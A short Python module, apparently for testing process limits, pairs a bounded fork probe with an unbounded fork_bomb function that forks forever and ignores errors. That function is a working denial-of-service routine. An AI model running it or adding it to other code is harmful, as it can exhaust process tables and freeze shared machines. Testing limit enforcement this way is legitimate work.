"""Creates processes without bound."""
import os
import time


def fork_until_refused(limit=10_000):
    """Forks sleeping children until fork fails; reports how many it got."""
    forked = 0
    for _ in range(limit):
        try:
            pid = os.fork()
        except OSError:
            return {"forked": forked, "refused": True}
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        forked += 1
    return {"forked": forked, "refused": False}


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass
